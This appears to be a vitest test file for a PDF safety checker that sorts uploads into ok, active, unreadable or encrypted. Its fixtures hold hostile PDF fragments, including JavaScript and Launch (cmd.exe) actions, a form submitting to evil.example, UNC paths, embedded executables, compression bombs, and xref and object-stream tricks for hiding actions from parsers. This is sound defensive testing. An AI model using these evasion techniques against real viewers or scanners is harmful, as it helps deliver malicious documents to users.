import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import PDFKit from 'pdfkit';
import { describe, expect, it } from 'vitest';
import {
  ACTIONS,
  actionForRebuiltXref,
  actionHiddenInStream,
  actionHiddenInString,
  buildPdf,
  deeplyNested,
  objectStreamBomb,
  openAction,
  packedPdf,
  streamObject,
  xrefIntoStreamBytes,
} from '../../test/hostile-pdfs';
import { certificate } from '../../test/document-fixtures';
import { certificatePdf } from '../modules/documents/certificate-pdf';
import { checkPdf } from './pdf-check';

/** A real one-page PDF, as pdfkit (which draws our letters) writes it. */
function pdfkitPdf(): Promise<Buffer> {
  return new Promise((resolve) => {
    const doc = new PDFKit();
    const chunks: Buffer[] = [];
    doc.on('data', (chunk: Buffer) => chunks.push(chunk));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.text('Estimate 1042: clutch kit £300.00');
    doc.addPage().text('Page two');
    doc.end();
  });
}

/** A PDF as pdf-lib writes it: with object and xref streams, and optionally a web link on its page. */
async function pdfLibPdf(useObjectStreams: boolean, link = false): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage();
  if (link) {
    const action = { S: 'URI', URI: PDFString.of('https://garage.example') };
    const annotation = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action });
    page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(annotation)]));
  }
  return Buffer.from(await doc.save({ useObjectStreams }));
}

/** The earlier hand-written sample: no cross-reference table, a catalogue with `extra`. */
const bareSample = (extra = '', trailer = '') => buildPdf({ catalog: extra, trailer, noXref: true });

describe('checkPdf', () => {
  it('keeps real PDFs: pdfkit letters, pdf-lib files with and without object streams, hand-built ones', async () => {
    expect(await checkPdf(await pdfkitPdf())).toBe('ok');
    // Our own certificate: tagged, with embedded fonts and a structure tree.
    expect(await checkPdf(await certificatePdf(certificate('secure', 200_000, true)))).toBe('ok');
    expect(await checkPdf(await pdfLibPdf(true))).toBe('ok');
    expect(await checkPdf(await pdfLibPdf(false))).toBe('ok');
    expect(await checkPdf(buildPdf())).toBe('ok');
    expect(await checkPdf(buildPdf({ catalog: '/OpenAction [3 0 R /Fit]' }))).toBe('ok');
    expect(await checkPdf(packedPdf({ 4: '<< /Title (Estimate) >>', 5: '[1 2 3]' }))).toBe('ok');
    expect(await checkPdf(buildPdf({ catalog: '/Title (How /JavaScript works \\(a note\\))' }))).toBe('ok');
    // A content stream's bytes are not objects, whatever they say.
    expect(await checkPdf(buildPdf({ objects: { 4: streamObject('', 'BT (/JavaScript /URI) Tj ET') } }))).toBe('ok');
  });

  it('refuses a PDF with a plain web link: a /URI action, per issue #35', async () => {
    expect(await checkPdf(await pdfLibPdf(false, true))).toBe('active');
    expect(await checkPdf(await pdfLibPdf(true, true))).toBe('active');
  });

  it.each([
    ['JavaScript on opening', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'],
    ['an escaped name', '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'],
    ['a name escaped in small letters', '/OpenAction << /S /#4aavaScript /#4as (app.alert(1)) >>'],
    ['a launch action', '/OpenAction << /S /Launch /F (cmd.exe) >>'],
    ['a document-level script', '/Names << /JavaScript 5 0 R >>'],
    ['a form that submits', '/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>'],
    ['a form that imports data', '/AA << /WC << /S /ImportData /F (data.fdf) >> >>'],
    ['an XFA form', '/AcroForm << /XFA 6 0 R >>'],
    ['a URI action', `/OpenAction ${ACTIONS.uri}`],
    ['a GoToR to a \\\\host\\share path', `/OpenAction ${ACTIONS.uncGoToR}`],
    ['a GoToE', '/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>'],
    ['embedded files', '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>'],
    ['an embedded file stream', '/Extra << /Type /EmbeddedFile >>'],
    ['a file attachment', '/Extra << /Subtype /FileAttachment >>'],
    ['rich media', '/Extra << /Subtype /RichMedia >>'],
  ])('refuses %s, with or without a cross-reference table', async (_label, extra) => {
    expect(await checkPdf(buildPdf({ catalog: extra }))).toBe('active');
    expect(await checkPdf(bareSample(extra))).toBe('active');
  });

  it.each([
    ['JavaScript', ACTIONS.javascript],
    ['a URI', ACTIONS.uri],
    ['a GoToR to a \\\\host\\share path', ACTIONS.uncGoToR],
  ])('refuses %s written inside a stream and reached through an xref offset into it', async (_label, action) => {
    expect(await checkPdf(actionHiddenInStream(action))).toBe('active');
  });

  it('refuses objects only a viewer rebuilding the xref, or reading inside a string, would find', async () => {
    expect(await checkPdf(actionForRebuiltXref())).toBe('active');
    expect(await checkPdf(actionHiddenInString())).toBe('active');
    // Nothing active there, but an xref entry that names no object is refused all the same.
    expect(await checkPdf(xrefIntoStreamBytes())).toBe('unreadable');
    // A document without a cross-reference table is rebuilt by viewers: refused.
    expect(await checkPdf(bareSample())).toBe('unreadable');
  });

  it('reads compressed object streams, and refuses a stream that only poses as one', async () => {
    expect(await checkPdf(packedPdf({ 6: ACTIONS.javascript }, '/OpenAction 6 0 R'))).toBe('active');
    expect(await checkPdf(packedPdf({ 6: ACTIONS.javascript }, '/OpenAction 6 0 R', '/Type /XObject'))).toBe(
      'unreadable',
    );
  });

  it('refuses an object stream whose table points inside one of its objects, and judges every copy of an object', async () => {
    // Object 9 starts, by the table, inside object 6's string: a viewer would read the action there.
    const body = `<< /Title (x << /S /JavaScript /JS (y) >>) >>`;
    const table = `6 0 9 ${body.indexOf('<<', 2)} `;
    const packed = deflateSync(Buffer.from(`${table}${body}`));
    const stream = streamObject(`/Type /ObjStm /N 2 /First ${table.length} /Filter /FlateDecode`, packed);
    expect(await checkPdf(buildPdf({ catalog: '/OpenAction 9 0 R', objects: { 7: stream } }))).toBe('unreadable');
    // An update that rewrites the catalogue cleanly leaves the first copy in the file: still refused.
    const first = openAction(ACTIONS.javascript);
    const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n`;
    const updated = Buffer.concat([
      first,
      Buffer.from(
        `${update}xref\n1 1\n${String(first.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev ${first.indexOf('xref')} >>\nstartxref\n${first.length + update.length}\n%%EOF\n`,
      ),
    ]);
    expect(await checkPdf(updated)).toBe('active');
    expect(
      await checkPdf(Buffer.concat([buildPdf(), Buffer.from(update.replace('>>', '/OpenAction << /S /Launch >> >>'))])),
    ).toBe('active');
  });

  it('is not fooled by a key or a string in the object stream dictionary', async () => {
    const packed = deflateSync(Buffer.from('6 0 << /S /JavaScript /JS (x) >>'));
    const withDictionary = (dictionary: string) =>
      buildPdf({ catalog: '/OpenAction 6 0 R', objects: { 7: streamObject(dictionary, packed) } });
    expect(await checkPdf(withDictionary('/Type /ObjStm /N 1 /First 4 /xobj 1 /Filter /FlateDecode'))).toBe('active');
    expect(
      await checkPdf(withDictionary('/Type /ObjStm /N 1 /First 4 /Note (endobj 9 0 obj) /Filter /FlateDecode')),
    ).toBe('active');
    expect(await checkPdf(withDictionary('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]'))).toBe(
      'unreadable',
    );
  });

  it('refuses a compressed bomb without expanding it, and nesting too deep to parse, quickly', async () => {
    const started = Date.now();
    expect(await checkPdf(objectStreamBomb())).toBe('unreadable');
    expect(await checkPdf(deeplyNested())).toBe('unreadable');
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('refuses an encrypted PDF', async () => {
    expect(await checkPdf(buildPdf({ trailer: '/Encrypt 9 0 R' }))).toBe('encrypted');
    expect(await checkPdf(bareSample('', '/Encrypt 9 0 R'))).toBe('encrypted');
  });

  it('refuses what only starts like a PDF, or has no page', async () => {
    expect(await checkPdf(Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>'))).toBe('unreadable');
    expect(await checkPdf(Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF'))).toBe('unreadable');
    expect(await checkPdf(buildPdf({ objects: { 3: '<< /Type /Annot >>' } }))).toBe('unreadable');
    const broken = Buffer.from(
      '%PDF-1.5\n4 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream\n%%EOF',
    );
    expect(await checkPdf(broken)).toBe('unreadable');
  });
});
